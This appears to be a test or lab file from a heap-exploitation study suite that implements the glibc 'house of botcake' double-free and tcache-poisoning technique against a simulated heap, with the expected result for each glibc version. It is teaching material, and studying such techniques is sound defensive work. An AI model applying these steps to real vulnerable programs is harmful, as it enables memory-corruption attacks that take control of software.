/**
 * house_of_botcake: a double free that the tcache key check cannot see. With the tcache bin
 * full, the victim is freed into the unsorted (or, on 2.41, small) bin and merged with the
 * chunk before it; one tcache entry is then used up and the victim freed again, this time
 * into the tcache (its key field holds a bin pointer, not the tcache key). The merged chunk
 * overlaps the victim's tcache entry, so an allocation from it rewrites the victim's next
 * pointer (tcache poisoning).
 */

import assert from "node:assert/strict";
import { type Lab, on, TCACHE_VERSIONS, technique } from "./support.ts";

const REQUEST = 0x100;

technique({
  name: "house_of_botcake",
  claim: "malloc returns a target after a double free into the tcache",
  outcomes: {
    // Without a tcache the second free of a meets a free chunk: its successor's PREV_INUSE
    // is clear.
    "2.23": { aborts: "double free or corruption (!prev)", in: "free" },
    ...on(TCACHE_VERSIONS, "works"),
  },
  run(lab: Lab) {
    const h = lab.heap;
    const target = lab.stackTarget();
    const fillers = lab.tcacheFillers(REQUEST);
    const prev = h.malloc(REQUEST);
    const a = h.malloc(REQUEST);
    h.malloc(0x10); // keeps a away from top
    lab.freeAll(fillers);
    h.free(a);
    h.free(prev); // merges with a
    h.malloc(REQUEST); // one free slot in the tcache bin
    lab.vulnerability();
    h.free(a); // the double free: a goes to the tcache inside the merged free chunk
    const big = h.malloc(2 * REQUEST + 0x10);
    assert.equal(big, prev);
    const next = big + (a - prev); // a's tcache next pointer, inside big
    lab.write(next, lab.protect(next, target));
    assert.equal(h.malloc(REQUEST), a);
    assert.equal(h.malloc(REQUEST), target);
  },
});
